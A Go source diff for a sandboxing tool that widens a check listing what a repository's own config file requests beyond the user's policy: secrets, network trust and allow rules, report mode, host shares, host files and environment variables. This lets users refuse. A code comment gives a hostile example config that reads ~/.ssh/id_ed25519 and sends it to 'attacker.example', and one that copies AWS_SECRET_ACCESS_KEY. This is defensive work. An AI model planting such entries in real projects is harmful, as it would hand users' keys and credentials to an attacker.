@@ -4,6 +4,7 @@ import (
 	"errors"
 	"fmt"
 	"os"
+	"path/filepath"
 	"sort"
 	"strings"
 
@@ -14,31 +15,95 @@ import (
 
 // projectAsks lists what a project file (a moat.toml that came with a
 // repository, not the user's own config.toml) asks for that reaches
-// beyond the sandbox: secrets, which read the host's environment, files or
-// commands and send the result to hosts the file names, and extra roots
-// the gate would accept from upstreams. A repository must not be able to
-// do either without the user's consent (ATTACKS 29): a [secrets] entry
-// with from = "file:~/.ssh/id_ed25519" and hosts = ["attacker.example"]
-// would otherwise hand the key to whoever wrote the file, and "command:"
-// would run on the host.
+// beyond what the user's own policy gives a sandbox. A repository must not
+// be able to widen the user's policy, nor read host files outside the
+// workspace, without the user's consent (ATTACKS 29):
+//
+//   - secrets read the host's environment, files or commands and send the
+//     result to hosts the file names (from = "file:~/.ssh/id_ed25519" with
+//     hosts = ["attacker.example"] would hand the key over; "command:"
+//     runs on the host);
+//   - network.trust makes the gate accept roots the file names;
+//   - network.allow, network.use and mode = "report" let the sandbox reach
+//     more (a project layer is above the user's, so its allow beats the
+//     user's block);
+//   - shares mount host paths; files copy host files in from outside the
+//     workspace; [env] entries that read host variables copy their values
+//     in (AWS_SECRET_ACCESS_KEY = "${AWS_SECRET_ACCESS_KEY}").
+//
+// Hooks are not listed: they run inside the sandbox, with nothing the
+// sandbox could not do by itself.
 func projectAsks(cfg config.Config, userConfig string) []string {
+	theirs := func(src string) bool { return src != userConfig && src != "" }
 	var out []string
 	for _, s := range cfg.Secrets {
-		if s.Source == userConfig || s.Source == "" {
+		if !theirs(s.Source) {
 			continue
 		}
 		out = append(out, fmt.Sprintf("%s: secret %s reads %s on the host and sends it to %s",
 			s.Source, s.Name, s.From, strings.Join(s.Hosts, ", ")))
 	}
-	sort.Strings(out) // secrets first, by file and name; then roots in file order
+	sort.Strings(out) // secrets first, by file and name; the rest in file order
 	for _, l := range cfg.Network.Layers {
-		if l.Source == userConfig || len(l.Trust) == 0 {
+		if !theirs(l.Source) {
 			continue
 		}
-		out = append(out, fmt.Sprintf("%s: network.trust makes the gate accept upstream certificates signed by %s",
-			l.Source, strings.Join(l.Trust, ", ")))
+		if len(l.Trust) > 0 {
+			out = append(out, fmt.Sprintf("%s: network.trust makes the gate accept upstream certificates signed by %s",
+				l.Source, strings.Join(l.Trust, ", ")))
+		}
+		if len(l.Allow) > 0 {
+			out = append(out, fmt.Sprintf("%s: network.allow lets the sandbox reach %s", l.Source, clipList(l.Allow, 12)))
+		}
+		var named []string
+		for _, u := range l.Use {
+			if u != "default" && u != "none" {
+				named = append(named, u)
+			}
+		}
+		if len(named) > 0 {
+			out = append(out, fmt.Sprintf("%s: network.use adds the named policies %s", l.Source, strings.Join(named, ", ")))
+		}
+		if l.Mode == config.ModeReport {
+			out = append(out, fmt.Sprintf("%s: network.mode = \"report\" lets through everything the policy would deny", l.Source))
+		}
+	}
+	for _, sh := range cfg.Shares {
+		if !theirs(sh.Source) {
+			continue
+		}
+		how := "read-only"
+		if sh.RW {
+			how = "read-write"
+		}
+		out = append(out, fmt.Sprintf("%s: shares host path %s at %s, %s", sh.Source, sh.Path, sh.Target, how))
+	}
+	for _, f := range cfg.Files {
+		if !theirs(f.Origin) || within(f.Source, filepath.Dir(f.Origin)) {
+			continue
+		}
+		out = append(out, fmt.Sprintf("%s: files copies host file %s into the guest at %s", f.Origin, f.Source, f.Target))
+	}
+	for _, e := range cfg.EnvVars {
+		if !theirs(e.Source) {
+			continue
+		}
+		switch {
+		case e.Pass:
+			out = append(out, fmt.Sprintf("%s: env %s copies the host's $%s into the sandbox", e.Source, e.Name, e.Name))
+		case strings.Contains(e.Value, "${"):
+			out = append(out, fmt.Sprintf("%s: env %s = %q reads host variables into the sandbox", e.Source, e.Name, e.Value))
+		}
 	}
 	return out
+}
+
+// clipList joins at most n entries and says how many more there are.
+func clipList(l []string, n int) string {
+	if len(l) <= n {
+		return strings.Join(l, ", ")
+	}
+	return fmt.Sprintf("%s and %d more", strings.Join(l[:n], ", "), len(l)-n)
 }
 
 // errNotAccepted is returned when the user declines a project's requests.
